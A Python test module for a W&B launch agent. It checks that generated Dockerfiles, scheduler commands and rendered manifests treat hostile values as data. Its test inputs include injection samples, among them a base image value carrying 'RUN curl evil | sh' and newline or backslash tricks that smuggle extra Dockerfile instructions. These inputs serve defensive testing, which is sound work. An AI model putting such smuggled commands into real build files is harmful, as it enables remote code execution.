"""Every text the project generates from values others control is built as data (issue 23): the
generated Dockerfile, the sweep scheduler's command, `render`'s manifests and `config show`'s
YAML. Hostile values read back as the values they were, and add no line, key or word.
(`migrate`'s specs: tests/unit/render/test_migrate_hostile.py; the chart's templates:
tests/chart/test_chart_generated_config.py.)"""

from __future__ import annotations

import contextlib
import io
import json
import re
import shlex
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from launch_agent.cli import main
from launch_agent.model.build import python_dockerfile
from launch_agent.model.run_item import parse_run_item
from launch_agent.render.pipeline import render
from launch_agent.render.scheduler import scheduler_queue_spec, scheduler_run
from launch_agent.render.settings import RenderSettings
from tests.terminal import hostile_text

INSTRUCTIONS = ("FROM ", "WORKDIR ", "ENV ", "COPY ", "RUN ", "ENTRYPOINT ")


@settings(max_examples=300)
@given(
    entrypoint=st.lists(hostile_text(surrogates=False), min_size=1, max_size=4),
    requirements=st.booleans(),
    pyproject=st.booleans(),
)
def test_a_generated_dockerfile_holds_the_entry_point_as_data(
    entrypoint: list[str], requirements: bool, pyproject: bool
) -> None:
    text = python_dockerfile(
        "python:3.11-slim", entrypoint, requirements=requirements, pyproject=pyproject
    )
    lines = text.split("\n")
    assert lines[-1] == "" and re.fullmatch(r"[ -~\n]*", text), text
    body = lines[:-1]
    assert all(line.startswith(INSTRUCTIONS) for line in body), body
    assert not any(line.endswith("\\") for line in body)  # no line continues into the next
    assert body[-1].startswith("ENTRYPOINT ")
    assert json.loads(body[-1].removeprefix("ENTRYPOINT ")) == entrypoint
    assert [line for line in body if line.startswith("ENTRYPOINT ")] == [body[-1]]


@pytest.mark.parametrize(
    "base_image",
    [
        "python:3\\",  # a trailing backslash continues FROM into the next line
        "python:3\nRUN curl evil | sh",
        "python:3\u2028RUN x",
        "python:${EVIL}",
        "python:3 AS x",
        "",
    ],
)
def test_a_generated_dockerfile_refuses_a_base_image_that_is_not_a_reference(
    base_image: str,
) -> None:
    with pytest.raises(ValueError, match="not an image reference"):
        python_dockerfile(base_image, ["python", "train.py"])


@pytest.mark.parametrize("workdir", ["/src\nRUN x", "src", "/src\\", "/$HOME"])
def test_a_generated_dockerfile_refuses_a_workdir_that_is_not_a_plain_path(workdir: str) -> None:
    with pytest.raises(ValueError, match="absolute path"):
        python_dockerfile("python:3.11-slim", ["python"], workdir=workdir)


@settings(max_examples=150, deadline=None)
@given(words=st.lists(hostile_text(min_size=1).filter(lambda w: "\x00" not in w), max_size=4))
def test_the_scheduler_command_is_the_words_w_and_b_gave(words: list[str]) -> None:
    # W&B runs `entry_point + args` through a shell; the agent splits them once, as that shell
    # would, and the container gets a list: no shell, no text put together from the words.
    entry = ["wandb", "scheduler", "swp1", *(shlex.quote(w) for w in words)]
    item = {
        "runQueueItemId": "UnVuUXVldWVJdGVtOjk=",
        "runSpec": {
            "entity": "ent",
            "project": "proj",
            "resource": "local-process",
            "uri": "placeholder-uri-scheduler",
            "overrides": {"entry_point": entry},
        },
    }
    image = "registry.example/launch-agent:1"
    run = scheduler_run(parse_run_item(item, scheduler=True), image)
    job = render(
        scheduler_queue_spec("q1", "sweeps", image), run, None, RenderSettings(), queue_name="q1"
    ).workload
    (container,) = job["spec"]["template"]["spec"]["containers"]
    words = [w.replace("$", "$$") if "$(" in w or "$$" in w else w for w in words]
    assert container["command"] == ["wandb", "scheduler", "swp1", *words]
    assert "args" not in container


def cli(argv: list[str]) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(argv)
    return code, out.getvalue(), err.getvalue()


ROOT = Path(__file__).resolve().parents[2]


@settings(max_examples=60, deadline=None)
@given(name=hostile_text(min_size=1).filter(lambda n: "\x00" not in n))
def test_render_yaml_reads_back_as_the_objects(tmp_path_factory: Any, name: str) -> None:
    tmp = tmp_path_factory.mktemp("render")
    item = {
        "runQueueItemId": "UnVuUXVldWVJdGVtOjE=",
        "runSpec": {
            "entity": "ent",
            "project": "proj",
            "name": name,
            "docker": {"docker_image": "registry.example.com/x:1"},
            "overrides": {"args": [name, f"--{name}"], "run_config": {name: name}},
        },
    }
    (tmp / "item.json").write_text(json.dumps(item))
    spec = str(ROOT / "queue-specs" / "job.yaml")
    argv = ["render", "--spec", spec, "--item", str(tmp / "item.json"), "--queue", "gpu-job"]
    code, out, err = cli([*argv, "-o", "yaml"])
    assert code == 0, err
    code, as_json, err = cli([*argv, "-o", "json"])
    assert code == 0, err
    assert list(yaml.safe_load_all(out)) == json.loads(as_json)


@settings(max_examples=60, deadline=None)
@given(entity=hostile_text(min_size=1))
def test_config_show_yaml_reads_back_as_the_json(tmp_path_factory: Any, entity: str) -> None:
    tmp = tmp_path_factory.mktemp("config")
    # Written as YAML: PyYAML reads a JSON surrogate pair (`"\\ud800\\udc00"`) as two lone
    # surrogates, a quirk of the loader this test is not about.
    (tmp / "c.yaml").write_text(yaml.safe_dump({"entity": entity, "queues": [entity]}))
    code_yaml, out_yaml, _ = cli(["config", "show", "-c", str(tmp / "c.yaml"), "-o", "yaml"])
    code_json, out_json, _ = cli(["config", "show", "-c", str(tmp / "c.yaml"), "-o", "json"])
    assert code_yaml == code_json
    if code_json == 0:
        assert yaml.safe_load(out_yaml) == json.loads(out_json)
